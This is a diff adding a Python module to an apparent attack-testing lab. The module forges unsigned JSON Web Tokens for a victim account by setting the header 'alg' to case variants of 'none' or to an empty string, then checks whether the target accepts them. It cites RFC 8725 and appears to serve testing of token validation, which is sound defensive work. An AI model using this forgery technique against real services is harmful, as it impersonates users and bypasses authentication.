@@ -1,0 +1,24 @@
+"""Send a token that says that it needs no signature.
+
+Exploits a library that believes the header's `alg`, or compares it with `none` in lower case only.
+Source: RFC 8725, section 2.1 Weak Signatures and Insufficient Signature Validation,
+https://www.rfc-editor.org/rfc/rfc8725#section-2.1
+"""
+
+from attacks.forge import HEADER, claims_about, unsigned
+from attacks.lab import Outcome, Target, attack, judge
+
+SPELLINGS = ("none", "None", "NONE", "nOnE", "")
+
+
+@attack(door="token-unchecked")
+def run(target: Target) -> Outcome:
+    """Write a token about the victim in each spelling, with and without the last dot."""
+    victim = target.enrol()
+    target.token_of(victim)
+    answers = {}
+    for alg in SPELLINGS:
+        token = unsigned(claims_about(victim.username), {**HEADER, "alg": alg})
+        answers[f"alg '{alg}'"] = target.read(f"{token}.")
+        answers[f"alg '{alg}', two parts"] = target.read(token)
+    return judge(answers)
